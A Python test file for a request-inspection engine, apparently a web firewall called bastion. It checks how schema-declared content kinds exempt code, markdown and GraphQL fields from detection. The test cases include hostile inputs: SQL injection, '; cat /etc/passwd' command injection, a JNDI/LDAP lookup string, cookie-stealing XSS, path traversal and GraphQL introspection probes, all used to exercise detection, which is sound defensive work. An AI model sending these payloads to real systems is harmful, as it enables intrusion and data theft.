"""Content kinds of JSON body fields (``x-bastion-content``, ``format``, ``contentMediaType``)
and GraphQL documents: code, markdown and GraphQL syntax pass where declared, while the
same attacks in undeclared fields, keys and other inputs are still refused."""

from __future__ import annotations

import json
from typing import Any

import pytest
from detection_helpers import make_request

from bastion.errors import PolicyError
from bastion.pipeline.stage import RouteInfo
from bastion.stages.detection import DetectionConfig, DetectionEngine, DetectionStage
from bastion.stages.detection.content import OFF, ContentMap, content_map
from bastion.stages.detection.graphql import graphql_texts

DOC: dict[str, Any] = {
    "openapi": "3.1.0",
    "components": {
        "schemas": {
            "File": {
                "type": "object",
                "properties": {"name": {"type": "string"}, "content": {"type": "string", "x-bastion-content": "code"}},
            },
            "Snippet": {
                "type": "object",
                "properties": {
                    "title": {"type": "string"},
                    "code": {"type": "string", "x-bastion-content": "code"},
                    "notes": {"type": "string", "format": "commonmark"},
                    "page": {"type": "string", "contentMediaType": "text/html"},
                    "message": {"type": "string", "x-bastion-content": "prose"},
                    "files": {"type": "array", "items": {"$ref": "#/components/schemas/File"}},
                    "lookup": {"type": "string", "x-bastion-content": "graphql"},
                },
            },
        }
    },
}
OPERATION: dict[str, Any] = {
    "requestBody": {"content": {"application/json": {"schema": {"$ref": "#/components/schemas/Snippet"}}}}
}

DOCKERFILE = (
    "FROM python:3.12-slim\n"
    "RUN apt-get update && apt-get install -y --no-install-recommends curl \\\n"
    "    && rm -rf /var/lib/apt/lists/*\n"
    "COPY . /app\n"
    'CMD ["sh", "-c", "cat /etc/os-release && exec gunicorn app:app --bind 0.0.0.0:8000"]\n'
)
SQL_PASTE = (
    "DROP TABLE IF EXISTS users;\n"
    "CREATE TABLE users (id serial primary key, name varchar(200));\n"
    "INSERT INTO users (name) VALUES ('O''Brien');\n"
    "SELECT name FROM users WHERE name = 'admin' OR 1=1; -- every row\n"
    "SELECT table_name FROM information_schema.tables UNION SELECT version();\n"
)
PYTHON = "import subprocess\nsubprocess.run(['ls', '-la', '/etc'], check=True)\nos.system('whoami; id')\n"
REACT = 'export const Hi = () => <img src="x" onerror={() => alert(1)} />;\n<script>alert(document.cookie)</script>'
MARKDOWN = (
    "# Cleaning up\n\nList what is there first:\n\n```bash\nls -la /var/log; du -sh ../../tmp\n"
    "rm -rf ./build && make\n```\n\nThen `cat ~/.bashrc | grep PATH` and see "
    "[the local admin](http://localhost:8080/admin).\n\n```sql\nSELECT * FROM t WHERE a = '' OR 1=1;\n```\n"
)


@pytest.fixture(scope="module")
def shape() -> ContentMap:
    found = content_map(OPERATION, DOC)
    assert found is not None
    return found


@pytest.fixture(scope="module")
def declared(shape: ContentMap) -> DetectionEngine:
    """The default engine with the snippet API's content kinds."""
    return DetectionEngine(DetectionConfig(), content=shape)


def post(body: object, path: str = "/snippets") -> Any:
    return make_request(path, method="POST", body=json.dumps(body), content_type="application/json")


def test_content_map_reads_every_hint(shape: ContentMap) -> None:
    """The map follows $ref, properties and array items, and reads x-bastion-content, the
    registry's ``commonmark`` format and ``contentMediaType``; undeclared fields are absent."""
    props = shape.properties
    assert {k: v.kind for k, v in props.items() if v.kind} == {
        "code": "code", "notes": "markdown", "page": "html", "message": "prose", "lookup": "graphql"}
    assert "title" not in props
    items = props["files"].items
    assert items is not None and items.properties["content"].kind == "code" and "name" not in items.properties


def test_an_unknown_kind_is_a_config_error() -> None:
    """A misspelt kind fails at load naming the body, the property and the allowed kinds (the
    loader adds the file and the operation's pointer)."""
    doc = {"components": {"schemas": {"S": {"properties": {"src": {"type": "string", "x-bastion-content": "sql"}}}}}}
    op = {"requestBody": {"content": {"application/json": {"schema": {"$ref": "#/components/schemas/S"}}}}}
    with pytest.raises(PolicyError) as info:
        content_map(op, doc)
    message = str(info.value)
    assert message.startswith("request body application/json, property 'src': x-bastion-content must be")
    assert "prose, markdown, code, html, graphql" in message and "'sql'" in message


def test_circular_schemas_and_no_body_give_no_map() -> None:
    """A recursive schema is walked once per branch; an operation without a JSON body has no map."""
    doc = {"components": {"schemas": {"Node": {"properties": {
        "text": {"type": "string", "x-bastion-content": "markdown"},
        "children": {"type": "array", "items": {"$ref": "#/components/schemas/Node"}}}}}}}
    op = {"requestBody": {"content": {"application/json": {"schema": {"$ref": "#/components/schemas/Node"}}}}}
    found = content_map(op, doc)
    assert found is not None and found.properties["text"].kind == "markdown"
    assert content_map({"responses": {}}, doc) is None
    assert content_map(None, None) is None


@pytest.mark.parametrize(
    ("field", "value"),
    [("code", DOCKERFILE), ("code", SQL_PASTE), ("code", PYTHON), ("code", REACT), ("notes", MARKDOWN)],
    ids=["dockerfile", "sql-paste", "python", "react", "markdown-ls-la"],
)
def test_declared_code_and_markdown_pass(declared: DetectionEngine, field: str, value: str) -> None:
    """Real snippets in a declared field pass; the same body without the declaration is refused
    (so the test would fail if the declaration were ignored)."""
    body = {"title": "Build image", field: value}
    assert declared.evaluate(post(body)).block_category is None
    assert DetectionEngine(DetectionConfig()).evaluate(post(body)).block_category is not None


def test_code_in_array_items_passes(declared: DetectionEngine) -> None:
    """A declared property of array items (files[].content) is code; their names are not."""
    files = [{"name": "Dockerfile", "content": DOCKERFILE}, {"name": "seed.sql", "content": SQL_PASTE}]
    assert declared.evaluate(post({"title": "repo", "files": files})).block_category is None
    files.append({"name": "../../../../etc/passwd", "content": "x"})
    verdict = declared.evaluate(post({"title": "repo", "files": files}))
    assert verdict.block_category == "path_traversal"
    assert {h.location for h in verdict.hits} == {"json:$.files[2].name"}


@pytest.mark.parametrize(
    ("body", "category", "location"),
    [
        ({"title": "1' UNION SELECT password FROM users--", "code": SQL_PASTE}, "sqli", "json:$.title"),
        ({"title": "; cat /etc/passwd", "code": DOCKERFILE}, "cmdi", "json:$.title"),
        ({"title": "ok", "code": "log.info('${jndi:ldap://203.0.113.9/a}')"}, "jndi", "json:$.code"),
        ({"title": "ok", "notes": "<script>alert(document.cookie)</script>"}, "xss", "json:$.notes"),
        ({"title": "ok", "page": "<p>hi</p><img src=x onerror=alert(1)>"}, "xss", "json:$.page"),
        ({"title": "ok", "message": "see <script>alert(1)</script>"}, "xss", "json:$.message"),
        ({"title": "ok", "message": "' OR 1=1-- "}, "sqli", "json:$.message"),
        ({"title": "ok", "lookup": '{ user(name: "x\' OR 1=1--") { id } }'}, "sqli", "json:$.lookup"),
    ],
    ids=["sqli-title", "cmdi-title", "jndi-in-code", "xss-markdown", "xss-html", "xss-prose", "sqli-prose",
         "graphql-field"],
)
def test_attacks_outside_what_a_kind_turns_off_are_refused(
    declared: DetectionEngine, body: dict[str, str], category: str, location: str
) -> None:
    """An attack in an undeclared field, or of a category the field's kind keeps, is refused
    and attributed to that field."""
    verdict = declared.evaluate(post(body))
    assert verdict.block_category == category
    assert location in {h.location for h in verdict.hits if h.rule.category == category}


def test_declarations_cover_only_the_json_body(declared: DetectionEngine) -> None:
    """The same snippet in a query parameter named like the field is inspected with every rule."""
    request = make_request("/snippets?code=%3B%20cat%20%2Fetc%2Fpasswd", method="GET")
    assert declared.evaluate(request).block_category == "cmdi"


def test_code_keeps_only_jndi() -> None:
    """What each kind turns off is as documented: code keeps JNDI alone, html keeps XSS,
    prose keeps SQL injection, GraphQL turns nothing off."""
    assert "jndi" not in OFF["code"] and {"sqli", "xss", "cmdi", "ssti"} <= OFF["code"]
    assert "xss" not in OFF["html"] and "xss" not in OFF["markdown"]
    assert "sqli" not in OFF["prose"] and "cmdi" in OFF["prose"]
    assert OFF["graphql"] == frozenset()


def test_stage_reads_the_route_operation() -> None:
    """The stage built for an OpenAPI route applies its declarations."""
    route = RouteInfo("snippets", "api", "/snippets", frozenset({"POST"}), True, OPERATION, DOC)
    stage = DetectionStage.from_config(DetectionConfig(), route)
    assert isinstance(stage.engine, DetectionEngine)
    assert stage.engine.evaluate(post({"title": "x", "code": DOCKERFILE})).block_category is None


# GraphQL documents ---------------------------------------------------------------------

QUERY = 'query Order($id: ID!) {\n  order(id: $id) {\n    id\n    type\n    cat: category\n    items { id sku }\n  }\n}'


def test_graphql_texts_are_strings_and_comments() -> None:
    """An executable document gives its string values, comments and introspection
    meta-fields; SDL, malformed text and non-GraphQL give None (inspected whole)."""
    doc = 'query { a(x: "one", y: """two\nlines""") @d(z: "three") { id } } # four'
    assert graphql_texts(doc) == ["one", "two\nlines", "three", " four"]
    assert graphql_texts(QUERY) == []
    assert graphql_texts("{ __schema { types { name } } }") == ["__schema { types {"]
    assert graphql_texts("{ a { __typename } }") == []
    assert graphql_texts("type Query { a: Int }") is None
    assert graphql_texts("{ a(") is None
    assert graphql_texts("1' OR 1=1--") is None


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (json.dumps({"query": QUERY, "variables": {"id": "ord_3f2a9c1e"}, "operationName": "Order"}),
         "application/json"),
        (json.dumps([{"query": QUERY, "variables": {"id": "1"}}, {"query": "{\n  me {\n    id\n    ls\n  }\n}"}]),
         "application/json"),
        (QUERY, "application/graphql"),
        ('mutation {\n  addComment(body: "I\'d like to cancel: order 4521 never arrived") {\n    id\n  }\n}',
         "application/graphql"),
        ("{\n  search(text: \"lamp\") {\n    __typename\n    ... on Product { id }\n  }\n}", "application/graphql"),
    ],
    ids=["json", "batched", "application-graphql", "mutation-with-prose", "typename"],
)
def test_graphql_syntax_is_not_inspected(engine: DetectionEngine, body: str, content_type: str) -> None:
    """Selection sets with ``id``/``type``/``cat`` on their own lines, aliases and prose
    arguments pass."""
    verdict = engine.evaluate(make_request("/graphql", method="POST", body=body, content_type=content_type))
    assert verdict.block_category is None, verdict


@pytest.mark.parametrize(
    ("body", "content_type", "category", "location"),
    [
        (json.dumps({"query": '{ user(name: "x\' UNION SELECT password FROM users--") { id } }'}),
         "application/json", "sqli", "json:$.query"),
        (json.dumps({"query": QUERY, "variables": {"id": "../../../../etc/passwd"}}),
         "application/json", "path_traversal", "json:$.variables.id"),
        (json.dumps([{"query": "{ me { id } }"}, {"query": '{ a(x: "<script>alert(1)</script>") }'}]),
         "application/json", "xss", "json:$[1].query"),
        ('query {\n  search(text: "; cat /etc/passwd") {\n    id\n  }\n}', "application/graphql", "cmdi", "graphql"),
        ("query {\n  me { id }\n}\n# ${jndi:ldap://203.0.113.9/a}\n", "application/graphql", "jndi", "graphql"),
        (json.dumps({"query": "{ a(x: \"1' OR 1=1--\") "}), "application/json", "sqli", "json:$.query"),
        (json.dumps({"query": "1' OR 1=1--"}), "application/json", "sqli", "json:$.query"),
        (json.dumps({"query": "query IntrospectionQuery { __schema { types { name } } }"}),
         "application/json", "recon", "json:$.query"),
        ('{\n  __type(name: "User") {\n    fields { name }\n  }\n}', "application/graphql", "recon", "graphql"),
    ],
    ids=["argument", "variable", "batched", "application-graphql", "comment", "malformed", "not-graphql",
         "introspection", "type-introspection"],
)
def test_graphql_values_are_inspected(
    engine: DetectionEngine, body: str, content_type: str, category: str, location: str
) -> None:
    """Argument values, variables, comments, batched queries are inspected; a document that
    does not parse is inspected whole (and not refused for being malformed)."""
    verdict = engine.evaluate(make_request("/graphql", method="POST", body=body, content_type=content_type))
    assert verdict.block_category is not None
    assert (category, location) in {(h.rule.category, h.location) for h in verdict.hits}


def test_malformed_graphql_alone_is_not_an_attack(engine: DetectionEngine) -> None:
    """A GraphQL document with a syntax error and no payload passes: refusing it is the
    GraphQL route's business."""
    for body in ("query {\n  me {\n    id\n", "{ a(x: ) }"):
        request = make_request("/graphql", method="POST", body=body, content_type="application/graphql")
        assert engine.evaluate(request).block_category is None
